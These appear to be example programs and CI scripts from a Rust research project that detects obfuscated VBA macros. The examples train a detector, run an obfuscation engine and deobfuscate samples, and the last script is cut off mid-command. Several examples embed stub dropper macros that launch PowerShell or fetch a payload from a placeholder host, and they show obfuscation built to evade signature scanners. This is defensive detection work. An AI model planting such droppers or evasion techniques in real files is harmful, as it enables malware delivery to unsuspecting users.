//! module — the full pipeline a mail gateway would run.
//!
//! Pass a path to scan your own `.doc`/`.xls`/`.docm`/`.xlsm` instead:
//!
//! ```sh
//! cargo run --release --example scan_document -- suspicious.docm
//! ```

use rand::SeedableRng;
use vbadet::{extract_macros, Detector, DetectorConfig};
use vbadet_corpus::CorpusSpec;
use vbadet_obfuscate::{Obfuscator, Technique};
use vbadet_ovba::VbaProjectBuilder;
use vbadet_zip::{CompressionMethod, ZipWriter};

fn build_sample_docm() -> Vec<u8> {
    let mut rng = rand::rngs::StdRng::seed_from_u64(99);
    let payload = Obfuscator::new()
        .with(Technique::Encoding)
        .with(Technique::LogicWithIntensity(20))
        .with(Technique::Random)
        .apply(
            "Sub AutoOpen()\r\n\
             \x20   Dim sh As Object\r\n\
             \x20   Set sh = CreateObject(\"WScript.Shell\")\r\n\
             \x20   sh.Run \"powershell -enc SQBFAFgA\", 0, False\r\n\
             End Sub\r\n",
            &mut rng,
        )
        .source;

    let mut project = VbaProjectBuilder::new("VBAProject");
    project.add_module(
        "ThisDocument",
        "Attribute VB_Name = \"ThisDocument\"\r\n\
         Sub FormatHeader()\r\n\
         \x20   Rows(\"1:1\").Font.Bold = True\r\n\
         End Sub\r\n",
    );
    project.document_module("ThisDocument");
    project.add_module("Module1", &payload);

    let mut zip = ZipWriter::new();
    zip.add_file(
        "[Content_Types].xml",
        b"<?xml version=\"1.0\"?><Types/>",
        CompressionMethod::Deflate,
    )
    .expect("small member");
    zip.add_file(
        "word/document.xml",
        b"<?xml version=\"1.0\"?><doc/>",
        CompressionMethod::Deflate,
    )
    .expect("small member");
    zip.add_file(
        "word/vbaProject.bin",
        &project.build().expect("valid project"),
        CompressionMethod::Deflate,
    )
    .expect("vba part");
    zip.finish()
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let bytes = match std::env::args().nth(1) {
        Some(path) => {
            println!("scanning {path}");
            std::fs::read(path)?
        }
        None => {
            println!("no path given: building and scanning a synthetic .docm");
            build_sample_docm()
        }
    };

    // Show what extraction alone sees.
    let macros = extract_macros(&bytes)?;
    println!(
        "container: {:?}, modules: {}",
        macros[0].container,
        macros.len()
    );
    for m in &macros {
        println!(
            "  module {:<16} {:>6} chars, first line: {}",
            m.module_name,
            m.code.len(),
            m.code.lines().next().unwrap_or("")
        );
    }

    // Train a detector and score every module.
    println!();
    println!("training detector…");
    let detector = Detector::train_on_corpus(
        &DetectorConfig::default(),
        &CorpusSpec::paper().scaled(0.05),
    );
    for verdict in detector.scan_document(&bytes)? {
        println!(
            "  module {:<16} -> obfuscated: {:5} (score {:+.3})",
            verdict.module_name, verdict.verdict.obfuscated, verdict.verdict.score
        );
    }
    Ok(())
}
