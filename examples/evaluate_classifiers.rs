//! Run the paper's evaluation (Table V / Figure 6 condensed) on a reduced
//! corpus: both feature sets × all five classifiers under stratified CV.
//!
//! ```sh
//! cargo run --release --example evaluate_classifiers
//! ```
//!
//! For the full-scale experiment binaries see `crates/bench/src/bin/`.

use vbadet::experiment::{evaluate_all, ExperimentData};
use vbadet_corpus::CorpusSpec;

fn main() {
    let spec = CorpusSpec::paper().scaled(0.1);
    println!(
        "generating corpus ({} macros) and extracting V+J features…",
        spec.total_macros()
    );
    let data = ExperimentData::from_spec(&spec);
    println!("running 5-fold CV for 5 classifiers x 2 feature sets…\n");
    let results = evaluate_all(&data, 5, spec.seed);

    println!(
        "{:<8} {:<6} {:>9} {:>10} {:>8} {:>8} {:>7}",
        "features", "clf", "accuracy", "precision", "recall", "F2", "AUC"
    );
    for r in &results {
        println!(
            "{:<8} {:<6} {:>9.3} {:>10.3} {:>8.3} {:>8.3} {:>7.3}",
            r.feature_set.to_string(),
            r.classifier.name(),
            r.accuracy,
            r.precision,
            r.recall,
            r.f2,
            r.auc
        );
    }

    let best_v = results
        .iter()
        .filter(|r| r.feature_set == vbadet_features::FeatureSet::V)
        .max_by(|a, b| a.f2.total_cmp(&b.f2))
        .expect("has V results");
    let best_j = results
        .iter()
        .filter(|r| r.feature_set == vbadet_features::FeatureSet::J)
        .max_by(|a, b| a.f2.total_cmp(&b.f2))
        .expect("has J results");
    println!(
        "\nproposed V features ({} F2 {:.3}) vs related-work J features ({} F2 {:.3})",
        best_v.classifier.name(),
        best_v.f2,
        best_j.classifier.name(),
        best_j.f2
    );
}
