//! Demonstrate the O1–O4 obfuscation engine and the recovery oracle: apply
//! each technique to a sample macro, show the result, and prove semantic
//! preservation by statically re-evaluating the hidden strings.
//!
//! ```sh
//! cargo run --release --example obfuscate_macro
//! ```

use rand::SeedableRng;
use vbadet_obfuscate::{recover, Obfuscator, Technique};

const SAMPLE: &str = "Sub Fetch()\r\n\
                      \x20   Dim target As String\r\n\
                      \x20   target = \"http://example.test/payload.exe\"\r\n\
                      \x20   Shell \"cmd /c start \" & target, vbHide\r\n\
                      End Sub\r\n";

fn show(title: &str, technique: Technique) {
    let mut rng = rand::rngs::StdRng::seed_from_u64(0xD5);
    let result = Obfuscator::new().with(technique).apply(SAMPLE, &mut rng);
    println!("=== {title} ===");
    for line in result.source.lines().take(12) {
        println!("    {line}");
    }
    if result.source.lines().count() > 12 {
        println!("    … ({} lines total)", result.source.lines().count());
    }
    let recovered = recover::recover_strings(&result.source);
    if let Some(url) = recovered.iter().find(|s| s.starts_with("http://")) {
        println!("  recovered hidden string: {url:?}");
    }
    println!();
}

fn main() {
    println!("original:\n{SAMPLE}");
    show("O1 random obfuscation", Technique::Random);
    show("O2 split obfuscation", Technique::Split);
    show("O3 encoding obfuscation", Technique::Encoding);
    show("O4 logic obfuscation", Technique::LogicWithIntensity(8));

    // Composition, as the corpus generator uses it.
    let mut rng = rand::rngs::StdRng::seed_from_u64(1);
    let full = Obfuscator::new()
        .with(Technique::Split)
        .with(Technique::Encoding)
        .with(Technique::LogicWithIntensity(20))
        .with(Technique::Random)
        .apply(SAMPLE, &mut rng);
    println!(
        "O2+O3+O4+O1 composed: {} chars (from {}), techniques {:?}",
        full.source.len(),
        SAMPLE.len(),
        full.applied
    );
}
