//! The full adversarial loop: obfuscate a dropper (O2+O3+O4), show that a
//! signature scanner loses it, detect it statistically (the paper's
//! method), then de-obfuscate and show the signatures light up again.
//!
//! ```sh
//! cargo run --release --example deobfuscate_roundtrip
//! ```

use rand::SeedableRng;
use vbadet::{Detector, DetectorConfig, SignatureScanner};
use vbadet_corpus::CorpusSpec;
use vbadet_obfuscate::{deobfuscate, Obfuscator, Technique};

const DROPPER: &str = "Sub AutoOpen()\r\n\
    Dim sh As Object\r\n\
    Set sh = CreateObject(\"WScript.Shell\")\r\n\
    sh.Run \"powershell -enc SQBFAFgA\", 0, False\r\n\
    End Sub\r\n";

fn main() {
    let scanner = SignatureScanner::new();

    println!(
        "1. plain dropper — signature hits: {:?}",
        scanner.matches(DROPPER)
    );

    let mut rng = rand::rngs::StdRng::seed_from_u64(2);
    let obfuscated = Obfuscator::new()
        .with(Technique::Split)
        .with(Technique::Encoding)
        .with(Technique::LogicWithIntensity(25))
        .apply(DROPPER, &mut rng)
        .source;
    println!(
        "\n2. after O2+O3+O4 ({} chars) — signature hits: {:?}",
        obfuscated.len(),
        scanner.matches(&obfuscated)
    );

    println!("\n3. statistical detector (the paper's method):");
    let detector = Detector::train_on_corpus(
        &DetectorConfig::default(),
        &CorpusSpec::paper().scaled(0.05),
    );
    let verdict = detector.score(&obfuscated);
    println!(
        "   obfuscated: {} (score {:+.3})",
        verdict.obfuscated, verdict.score
    );

    let report = deobfuscate(&obfuscated);
    println!(
        "\n4. de-obfuscated ({} chars: folded {} strings, removed {} dead blocks, {} procs)",
        report.source.len(),
        report.folded_strings,
        report.removed_dead_blocks,
        report.removed_procedures,
    );
    println!(
        "   signature hits again: {:?}",
        scanner.matches(&report.source)
    );
    println!("\nrecovered source:\n");
    for line in report.source.lines() {
        println!("    {line}");
    }
}
