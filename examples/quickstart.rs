//! Quickstart: train an obfuscation detector on the synthetic corpus and
//! score a few macros.
//!
//! ```sh
//! cargo run --release --example quickstart
//! ```

use rand::SeedableRng;
use vbadet::{Detector, DetectorConfig};
use vbadet_corpus::CorpusSpec;
use vbadet_obfuscate::{Obfuscator, Technique};

fn main() {
    // 1. Train. `CorpusSpec::paper()` mirrors the paper's 4,212-macro
    //    corpus; we scale it down for a fast example run.
    let spec = CorpusSpec::paper().scaled(0.05);
    println!(
        "training MLP on V1-V15 over {} macros…",
        spec.total_macros()
    );
    let detector = Detector::train_on_corpus(&DetectorConfig::default(), &spec);

    // 2. Score a plain business macro.
    let plain = "Attribute VB_Name = \"Module1\"\r\n\
                 Sub UpdateReport()\r\n\
                 \x20   Dim total As Double\r\n\
                 \x20   Dim row As Long\r\n\
                 \x20   For row = 2 To 200\r\n\
                 \x20       total = total + Cells(row, 3).Value\r\n\
                 \x20   Next row\r\n\
                 \x20   Range(\"C1\").Value = total\r\n\
                 End Sub\r\n";
    let verdict = detector.score(plain);
    println!(
        "plain macro      -> obfuscated: {:5} (score {:+.3})",
        verdict.obfuscated, verdict.score
    );

    // 3. Obfuscate the same macro with O2+O3+O4+O1 and score again.
    let mut rng = rand::rngs::StdRng::seed_from_u64(7);
    let obfuscated = Obfuscator::new()
        .with(Technique::Split)
        .with(Technique::Encoding)
        .with(Technique::LogicWithIntensity(25))
        .with(Technique::Random)
        .apply(plain, &mut rng)
        .source;
    let verdict = detector.score(&obfuscated);
    println!(
        "obfuscated macro -> obfuscated: {:5} (score {:+.3})",
        verdict.obfuscated, verdict.score
    );
    println!();
    println!("obfuscated head:");
    for line in obfuscated.lines().take(8) {
        println!("    {line}");
    }
}
