#!/usr/bin/env sh
# Refreshes the CI bench regression baselines after an *intentional* perf
# change: reruns the throughput benches and promotes the fresh results to
# results/BENCH_baseline.json and results/BENCH_features_baseline.json,
# which `scripts/ci.sh` gates against at a 20% docs/sec tolerance. Commit
# the updated baselines with the change that justified them.
set -eu
cd "$(dirname "$0")/.."
cargo bench --offline -p vbadet-bench --bench scan_parallel
cp results/BENCH_scan.json results/BENCH_baseline.json
echo "refreshed results/BENCH_baseline.json:"
cat results/BENCH_baseline.json
cargo bench --offline -p vbadet-bench --bench features
cp results/BENCH_features.json results/BENCH_features_baseline.json
echo "refreshed results/BENCH_features_baseline.json:"
cat results/BENCH_features_baseline.json
