#!/usr/bin/env sh
# Refreshes the CI bench regression baseline after an *intentional* perf
# change: reruns the throughput bench and promotes the fresh results to
# results/BENCH_baseline.json, which `scripts/ci.sh` gates against at a
# 20% docs/sec tolerance. Commit the updated baseline with the change
# that justified it.
set -eu
cd "$(dirname "$0")/.."
cargo bench --offline -p vbadet-bench --bench scan_parallel
cp results/BENCH_scan.json results/BENCH_baseline.json
echo "refreshed results/BENCH_baseline.json:"
cat results/BENCH_baseline.json
