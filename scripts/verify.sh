#!/usr/bin/env sh
# Full verification gate: release build, workspace tests, pedantic clippy.
# Run from the repository root. Mirrors what CI / the PR driver enforces.
set -eu

cd "$(dirname "$0")/.."

cargo build --release --offline --workspace
cargo test -q --offline --workspace
cargo clippy --offline --all-targets -- -D warnings

# Fault-injection pass: recompile the scanning stack with the faultpoint
# registry enabled and run the feature-gated resilience suite (kill/resume,
# torn journal writes, mid-parse panics) plus every ordinary test under the
# instrumented build.
cargo test -q --offline --features faultpoints
cargo clippy --offline -p vbadet-faultpoint --features faultpoints --all-targets -- -D warnings

# Parallel determinism pass: the worker-pool engine must be observationally
# identical to the sequential one. Runs the equivalence suite in both
# feature configurations; the faultpoints build adds the contained-panic
# stress case plus the jobs=4 kill/resume and concurrent torn-write cases.
cargo test -q --offline --test parallel_scan
cargo test -q --offline --features faultpoints --test parallel_scan --test fault_injection

# Parallel scan benchmark gate: regenerate BENCH_scan.json and hold the
# worker pool to a core-aware throughput floor against the sequential
# baseline (2x on 4+ cores, parity on 2-3, overhead-only on 1).
cargo bench --offline -p vbadet-bench --bench scan_parallel
bench_json=results/BENCH_scan.json
if [ ! -f "$bench_json" ]; then
    echo "verify: FAIL — $bench_json missing" >&2
    exit 1
fi
cores=$(sed -n 's/.*"cores": *\([0-9][0-9]*\).*/\1/p' "$bench_json")
speedup=$(sed -n 's/.*"speedup": *\([0-9.][0-9.]*\).*/\1/p' "$bench_json")
if [ -z "$cores" ] || [ -z "$speedup" ]; then
    echo "verify: FAIL — $bench_json lacks cores/speedup fields" >&2
    exit 1
fi
floor=0.5
[ "$cores" -ge 2 ] && floor=1.0
[ "$cores" -ge 4 ] && floor=2.0
if ! awk -v s="$speedup" -v f="$floor" 'BEGIN { exit !(s + 0 >= f + 0) }'; then
    echo "verify: FAIL — parallel speedup ${speedup}x below the ${floor}x floor for ${cores} core(s)" >&2
    exit 1
fi
echo "verify: parallel speedup ${speedup}x on ${cores} core(s) (floor ${floor}x)"

echo "verify: OK"
