#!/usr/bin/env sh
# Full verification gate: release build, workspace tests, pedantic clippy.
# Run from the repository root. Mirrors what CI / the PR driver enforces.
set -eu

cd "$(dirname "$0")/.."

cargo build --release --offline --workspace
cargo test -q --offline --workspace
cargo clippy --offline --all-targets -- -D warnings

echo "verify: OK"
