#!/usr/bin/env sh
# Thin compatibility wrapper: the verification pipeline lives in ci.sh
# (staged, timed, machine-readable summary in results/ci-summary.json).
exec "$(dirname "$0")/ci.sh" "$@"
