#!/usr/bin/env sh
# Full verification gate: release build, workspace tests, pedantic clippy.
# Run from the repository root. Mirrors what CI / the PR driver enforces.
set -eu

cd "$(dirname "$0")/.."

cargo build --release --offline --workspace
cargo test -q --offline --workspace
cargo clippy --offline --all-targets -- -D warnings

# Fault-injection pass: recompile the scanning stack with the faultpoint
# registry enabled and run the feature-gated resilience suite (kill/resume,
# torn journal writes, mid-parse panics) plus every ordinary test under the
# instrumented build.
cargo test -q --offline --features faultpoints
cargo clippy --offline -p vbadet-faultpoint --features faultpoints --all-targets -- -D warnings

echo "verify: OK"
