# Shared helpers for the CI harness. POSIX sh + awk only — the gates must
# run in the same offline container the build does, with no jq to lean on.
#
# The JSON here (bench results, CI summaries) is machine-written, flat, and
# one-level; the parser below is deliberately tolerant of everything that
# format is allowed to vary in — whitespace, key order, pairs sharing a
# line — so gate scripts never again break on a `sed` regex pinned to one
# writer's pretty-printing.

# json_num FILE KEY
# Prints the numeric value of the first occurrence of "KEY": <number>,
# or nothing when the key is absent (callers treat empty as missing).
json_num() {
    awk -v want="$2" '
        {
            line = $0
            while (match(line, /"[^"]+"[ \t]*:[ \t]*-?[0-9][0-9.eE+-]*/)) {
                pair = substr(line, RSTART, RLENGTH)
                line = substr(line, RSTART + RLENGTH)
                key = pair
                sub(/^"/, "", key)
                sub(/".*/, "", key)
                value = pair
                sub(/^"[^"]+"[ \t]*:[ \t]*/, "", value)
                if (key == want) { print value; exit }
            }
        }
    ' "$1"
}

# json_num_keys FILE
# Prints every key whose value is numeric, one per line, in file order.
# Callers filter with grep (e.g. '^stage_.*_docs_per_sec$').
json_num_keys() {
    awk '
        {
            line = $0
            while (match(line, /"[^"]+"[ \t]*:[ \t]*-?[0-9][0-9.eE+-]*/)) {
                pair = substr(line, RSTART, RLENGTH)
                line = substr(line, RSTART + RLENGTH)
                key = pair
                sub(/^"/, "", key)
                sub(/".*/, "", key)
                print key
            }
        }
    ' "$1"
}

# num_ge A B — true when A >= B, comparing as floats.
num_ge() {
    awk -v a="$1" -v b="$2" 'BEGIN { exit !(a + 0 >= b + 0) }'
}

# num_le A B — true when A <= B, comparing as floats.
num_le() {
    awk -v a="$1" -v b="$2" 'BEGIN { exit !(a + 0 <= b + 0) }'
}

# num_mul A B — prints A * B with two decimals.
num_mul() {
    awk -v a="$1" -v b="$2" 'BEGIN { printf "%.2f", a * b }'
}
