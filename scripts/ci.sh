#!/usr/bin/env sh
# Staged offline CI harness. Run from anywhere; it cds to the repo root.
#
#   scripts/ci.sh               full pipeline: fmt -> builds -> tests ->
#                               clippy -> bench -> gates
#   scripts/ci.sh --stage NAME  run only the named stage(s); repeatable,
#                               e.g. --stage serve --stage reload-soak.
#                               Unselected stages are recorded as skipped
#   scripts/ci.sh --gate-test   dry-run: doctor the bench baseline and
#                               assert the regression gates FAIL against it
#
# Every stage is timed; the run (pass or fail) is recorded to
# results/ci-summary.json as machine-readable
# {format, schema_version, status, stages:[{name, status, seconds}]}.
# The first failing stage stops the pipeline, but the summary is still
# written so the driver can see exactly where it died and how long each
# stage before it took.
#
# Bench regression baseline: results/BENCH_baseline.json, compared
# against the fresh results/BENCH_scan.json at a 20% docs/sec tolerance.
# After an intentional perf change, refresh it with:
#
#   scripts/refresh-baseline.sh

set -u

cd "$(dirname "$0")/.."
. scripts/lib.sh

SUMMARY=results/ci-summary.json
BENCH=results/BENCH_scan.json
BASELINE=results/BENCH_baseline.json
CACHE_BENCH=results/BENCH_cache.json
RELOAD_BENCH=results/BENCH_reload.json
FEATURES_BENCH=results/BENCH_features.json
FEATURES_BASELINE=results/BENCH_features_baseline.json
STAGES=""
OVERALL=ok

# Every stage the pipeline knows, in run order — the --stage validator
# and the skip logic both key off this list.
KNOWN_STAGES="fmt build build-faultpoints test test-faultpoints test-determinism \
cache isolation serve serve-soak reload-soak clippy clippy-faultpoints \
bench bench-features bench-cache bench-reload gates"

GATE_TEST=0
ONLY=""
while [ $# -gt 0 ]; do
    case "$1" in
        --gate-test) GATE_TEST=1 ;;
        --stage)
            if [ $# -lt 2 ]; then
                echo "ci: --stage needs a stage name" >&2
                exit 2
            fi
            shift
            ONLY="$ONLY $1"
            ;;
        --stage=*) ONLY="$ONLY ${1#--stage=}" ;;
        *)
            echo "ci: unknown argument: $1 (supported: --stage NAME, --gate-test)" >&2
            exit 2
            ;;
    esac
    shift
done
for selected in $ONLY; do
    case " $KNOWN_STAGES " in
        *" $selected "*) ;;
        *)
            echo "ci: unknown stage: $selected" >&2
            echo "ci: known stages: $KNOWN_STAGES" >&2
            exit 2
            ;;
    esac
done

write_summary() {
    mkdir -p results
    printf '{\n  "format": "vbadet-ci-summary",\n  "schema_version": 2,\n  "status": "%s",\n  "stages": [%s]\n}\n' \
        "$OVERALL" "$STAGES" >"$SUMMARY"
}

# stage NAME COMMAND [ARGS...] — run one pipeline stage, timed. A failing
# stage finalizes the summary and exits non-zero. With a --stage
# selection, unselected stages are recorded as skipped and cost nothing.
stage() {
    stage_name=$1
    shift
    if [ -n "$ONLY" ]; then
        case " $ONLY " in
            *" $stage_name "*) ;;
            *)
                STAGES="${STAGES}${STAGES:+, }{\"name\":\"$stage_name\",\"status\":\"skipped\",\"seconds\":0}"
                return 0
                ;;
        esac
    fi
    echo "ci: stage $stage_name"
    stage_start=$(date +%s.%N)
    if "$@"; then
        stage_status=ok
    else
        stage_status=fail
    fi
    stage_secs=$(awk -v a="$stage_start" -v b="$(date +%s.%N)" 'BEGIN { printf "%.2f", b - a }')
    STAGES="${STAGES}${STAGES:+, }{\"name\":\"$stage_name\",\"status\":\"$stage_status\",\"seconds\":$stage_secs}"
    if [ "$stage_status" = fail ]; then
        OVERALL=fail
        write_summary
        echo "ci: FAIL at stage $stage_name (after ${stage_secs}s); summary in $SUMMARY" >&2
        exit 1
    fi
    echo "ci: stage $stage_name ok (${stage_secs}s)"
}

# The parallel determinism suites rerun explicitly (beyond the workspace
# pass) so a future test-harness filter can never silently drop them: the
# worker-pool engine being observationally identical to the sequential one
# is this repo's load-bearing invariant.
determinism_tests() {
    cargo test -q --offline --test parallel_scan --test metrics &&
        cargo test -q --offline --features faultpoints --test parallel_scan --test fault_injection
}

# The resident-service suites: protocol/breaker/drain unit coverage, then
# a wall-clock chaos soak. The soak hammers a live `vbadet serve` daemon
# with concurrent clients while faultpoints crash-loop its workers, and
# asserts the service's core contract from the outside: exactly one
# terminal response per request, typed shedding under overload, the
# breaker opening AND recovering, drain exiting 3, and zero orphaned
# workers left behind.
serve_tests() {
    cargo test -q --offline --test serve &&
        cargo test -q --offline --features faultpoints --test serve
}

serve_soak() {
    cargo build -q --offline -p vbadet-cli --features faultpoints &&
        cargo run -q --offline --features faultpoints --bin serve_soak -- \
            target/debug/vbadet "${CI_SOAK_SECS:-6}" &&
        assert_no_orphan_workers
}

# The hot-reload chaos soak: six concurrent clients scan a live daemon
# while an operator connection drives >= CI_RELOADS successful model
# hot-swaps — alternating two detectors, with a garbage model file and
# faultpoint-injected corrupt loads mixed in. The harness asserts zero
# dropped or misrouted responses, a valid monotone generation stamp on
# every response, generation conservation (final = 1 + successes), a
# cache miss for warm documents after a swap, and an orphan-free drain.
reload_soak() {
    cargo build -q --offline -p vbadet-cli --features faultpoints &&
        cargo run -q --offline --features faultpoints --bin reload_soak -- \
            target/debug/vbadet "${CI_RELOADS:-100}" &&
        assert_no_orphan_workers
}

# The scan-cache suites: the cache-off/cold/warm equivalence proofs and
# invalidation rules, the crash-composition and single-flight tests
# (faultpoints build), and the on-disk store mutation fuzz. Rerun
# explicitly — like the determinism suites — because "a cache hit is
# observationally identical to a scan" is a correctness invariant, not a
# perf nicety.
cache_tests() {
    cargo test -q --offline --test cache --test hostile_inputs &&
        cargo test -q --offline --features faultpoints --test cache
}

# The process-isolation suite, then an outside-the-process check of the
# supervisor's no-orphans guarantee: every worker is reaped on every exit
# path (clean shutdown, heartbeat kill, supervisor panic), so after the
# suite no isolation worker may still be running.
isolation_tests() {
    cargo test -q --offline --test isolation &&
        cargo test -q --offline --features faultpoints --test isolation &&
        assert_no_orphan_workers
}

assert_no_orphan_workers() {
    # Bracketed patterns so the grep's own ps line never matches itself.
    orphans=$(ps -eo args 2>/dev/null | grep -e '[i]solation_worker' -e '[_][_]worker' | wc -l)
    if [ "$orphans" -ne 0 ]; then
        echo "ci: FAIL — $orphans orphaned isolation worker(s) survived the suite:" >&2
        ps -eo pid,args 2>/dev/null | grep -e '[i]solation_worker' -e '[_][_]worker' >&2
        return 1
    fi
    echo "ci: no orphaned isolation workers"
}

# gate_check VALUE OP BOUND LABEL — one comparison, with a uniform
# failure message. OP is ge or le.
gate_check() {
    if [ -z "$1" ]; then
        echo "ci: gate FAIL — $4: value missing from bench output" >&2
        return 1
    fi
    if ! "num_$2" "$1" "$3"; then
        echo "ci: gate FAIL — $4 ($1 violates $2 $3)" >&2
        return 1
    fi
    echo "ci: gate ok — $4 ($1 within $2 $3)"
}

# The acceptance gates over the fresh bench results:
#   1. core-aware parallel speedup floor (2x on 4+ cores, parity on 2-3,
#      0.5x on a single core where the pool is pure overhead),
#   2. metrics overhead <= 5%,
#   3. isolate throughput at least half the thread pool at the same job
#      count (process isolation must stay cheap enough to default to in
#      hostile-input triage; the fused scoring path cut per-document
#      compute ~4x, so the fixed per-document IPC tax is now a larger
#      slice of the ratio — absolute isolate regressions are caught by
#      the baseline loop in gate 4),
#   4. no >20% docs/sec regression — overall or per stage — against the
#      committed baseline. A stage key missing from the fresh results
#      means it dropped below the bench's noise floor (i.e. got faster)
#      and is skipped; a key missing from the baseline is a new stage
#      with nothing to regress from.
run_gates() {
    gates_baseline=${CI_BASELINE:-$BASELINE}
    if [ ! -f "$BENCH" ]; then
        echo "ci: gate FAIL — $BENCH missing" >&2
        return 1
    fi
    gates_cores=$(json_num "$BENCH" cores)
    if [ -z "$gates_cores" ]; then
        echo "ci: gate FAIL — $BENCH lacks a cores field" >&2
        return 1
    fi
    floor=0.5
    [ "$gates_cores" -ge 2 ] && floor=1.0
    [ "$gates_cores" -ge 4 ] && floor=2.0
    gate_check "$(json_num "$BENCH" speedup)" ge "$floor" \
        "parallel speedup floor for $gates_cores core(s)" || return 1
    gate_check "$(json_num "$BENCH" metrics_overhead_pct)" le 5.0 \
        "metrics overhead pct" || return 1
    gates_par=$(json_num "$BENCH" parallel_docs_per_sec)
    gate_check "$(json_num "$BENCH" isolate_docs_per_sec)" ge "$(num_mul "$gates_par" 0.5)" \
        "isolate throughput within 50% of --jobs N ($gates_par docs/s)" || return 1

    gates_cache_bench=${CI_CACHE_BENCH:-$CACHE_BENCH}
    if [ ! -f "$gates_cache_bench" ]; then
        echo "ci: gate FAIL — $gates_cache_bench missing" >&2
        return 1
    fi
    gates_uncached=$(json_num "$gates_cache_bench" uncached_docs_per_sec)
    gate_check "$(json_num "$gates_cache_bench" warm_docs_per_sec)" ge \
        "$(num_mul "$gates_uncached" 3.0)" \
        "warm-cache throughput >= 3x uncached ($gates_uncached docs/s)" || return 1

    # Zero-downtime means the model swap may not stall traffic: under a
    # reload every 500ms, the p99 request latency must stay within 2x the
    # steady-state p99 measured moments earlier on the same machine.
    gates_reload_bench=${CI_RELOAD_BENCH:-$RELOAD_BENCH}
    if [ ! -f "$gates_reload_bench" ]; then
        echo "ci: gate FAIL — $gates_reload_bench missing" >&2
        return 1
    fi
    gates_steady=$(json_num "$gates_reload_bench" steady_p99_ms)
    gate_check "$(json_num "$gates_reload_bench" churn_p99_ms)" le \
        "$(num_mul "$gates_steady" 2.0)" \
        "reload-churn p99 <= 2x steady p99 ($gates_steady ms)" || return 1

    # The allocation-free scoring hot path must stay decisively ahead of
    # the historical extractors it replaced: fused throughput >= 1.5x the
    # reference path, measured fresh every run (the two are proven
    # bit-identical by tests/feature_equivalence.rs, so this is pure cost).
    gates_features_bench=${CI_FEATURES_BENCH:-$FEATURES_BENCH}
    if [ ! -f "$gates_features_bench" ]; then
        echo "ci: gate FAIL — $gates_features_bench missing" >&2
        return 1
    fi
    gate_check "$(json_num "$gates_features_bench" speedup_vs_reference)" ge 1.5 \
        "fused feature extraction >= 1.5x reference" || return 1
    if [ -f "$FEATURES_BASELINE" ]; then
        for key in $(json_num_keys "$FEATURES_BASELINE" | grep '_docs_per_sec$'); do
            base=$(json_num "$FEATURES_BASELINE" "$key")
            fresh=$(json_num "$gates_features_bench" "$key")
            [ -n "$fresh" ] || continue
            min=$(num_mul "$base" 0.8)
            gate_check "$fresh" ge "$min" \
                "$key vs features baseline $base (>20% regression)" || return 1
        done
    fi

    if [ ! -f "$gates_baseline" ]; then
        echo "ci: note — $gates_baseline missing; regression gate skipped." >&2
        echo "ci: note — refresh with: scripts/refresh-baseline.sh" >&2
        return 0
    fi
    # A pre-split baseline carries the old combined `stage_scan_score`
    # key: the rewritten hot path must beat it by >= 1.5x. A refreshed
    # baseline carries `scoring_docs_per_sec` instead, which the generic
    # regression loop below covers.
    old_score=$(json_num "$gates_baseline" stage_scan_score_docs_per_sec)
    if [ -n "$old_score" ]; then
        gate_check "$(json_num "$BENCH" scoring_docs_per_sec)" ge \
            "$(num_mul "$old_score" 1.5)" \
            "scoring throughput >= 1.5x pre-split baseline ($old_score docs/s)" || return 1
    fi
    for key in $(json_num_keys "$gates_baseline" | grep '_docs_per_sec$'); do
        base=$(json_num "$gates_baseline" "$key")
        fresh=$(json_num "$BENCH" "$key")
        [ -n "$fresh" ] || continue
        min=$(num_mul "$base" 0.8)
        gate_check "$fresh" ge "$min" \
            "$key vs baseline $base (>20% regression)" || return 1
    done
}

if [ "$GATE_TEST" = 1 ]; then
    # Prove the regression gate has teeth: double every docs/sec figure in
    # a copy of the fresh results and use that as the baseline — every
    # throughput then reads as a 50% regression, and the gate must FAIL.
    if [ ! -f "$BENCH" ] || [ ! -f "$CACHE_BENCH" ] || [ ! -f "$RELOAD_BENCH" ] ||
        [ ! -f "$FEATURES_BENCH" ]; then
        echo "ci: --gate-test needs $BENCH, $CACHE_BENCH, $RELOAD_BENCH and $FEATURES_BENCH; run the benches first:" >&2
        echo "ci:   cargo bench --offline -p vbadet-bench --bench scan_parallel --bench features --bench cache --bench reload" >&2
        exit 1
    fi
    doctored=$(mktemp)
    doctored_cache=$(mktemp)
    doctored_reload=$(mktemp)
    doctored_features=$(mktemp)
    trap 'rm -f "$doctored" "$doctored_cache" "$doctored_reload" "$doctored_features"' EXIT
    awk '
        /"[A-Za-z0-9_]*docs_per_sec"[ \t]*:/ {
            split($0, half, ":")
            value = half[2]
            trail = (value ~ /,[ \t]*$/) ? "," : ""
            gsub(/[ \t,]/, "", value)
            printf "%s: %.2f%s\n", half[1], value * 2, trail
            next
        }
        { print }
    ' "$BENCH" >"$doctored"
    if (CI_BASELINE="$doctored" run_gates); then
        echo "ci: --gate-test FAIL — the gate passed against a doctored baseline" >&2
        exit 1
    fi
    echo "ci: --gate-test ok — the regression gate fails against a doctored baseline"

    # And the cache gate specifically: inflate the uncached throughput in
    # a copy of the cache results until no real warm pass could be 3x it.
    # (Halving the warm figure would not do — the measured warm speedup is
    # far above 3x, so the halved ratio could still clear the bar.)
    awk '
        /"uncached_docs_per_sec"[ \t]*:/ {
            split($0, half, ":")
            value = half[2]
            trail = (value ~ /,[ \t]*$/) ? "," : ""
            gsub(/[ \t,]/, "", value)
            printf "%s: %.2f%s\n", half[1], value * 1000, trail
            next
        }
        { print }
    ' "$CACHE_BENCH" >"$doctored_cache"
    if (CI_CACHE_BENCH="$doctored_cache" run_gates); then
        echo "ci: --gate-test FAIL — the cache gate passed against doctored results" >&2
        exit 1
    fi
    echo "ci: --gate-test ok — the warm-cache gate fails against doctored results"

    # And the reload-latency gate: inflate the churn p99 in a copy of the
    # reload results past any real 2x-of-steady bound — a hot swap that
    # stalled traffic would look exactly like this, and must FAIL.
    awk '
        /"churn_p99_ms"[ \t]*:/ {
            split($0, half, ":")
            value = half[2]
            trail = (value ~ /,[ \t]*$/) ? "," : ""
            gsub(/[ \t,]/, "", value)
            printf "%s: %.3f%s\n", half[1], value * 100, trail
            next
        }
        { print }
    ' "$RELOAD_BENCH" >"$doctored_reload"
    if (CI_RELOAD_BENCH="$doctored_reload" run_gates); then
        echo "ci: --gate-test FAIL — the reload gate passed against doctored results" >&2
        exit 1
    fi
    echo "ci: --gate-test ok — the reload-churn p99 gate fails against doctored results"

    # And the fused-extraction gate: shrink the measured speedup in a copy
    # of the features results to a tenth — a hot path that lost its edge
    # over the reference extractors would look like this, and must FAIL.
    awk '
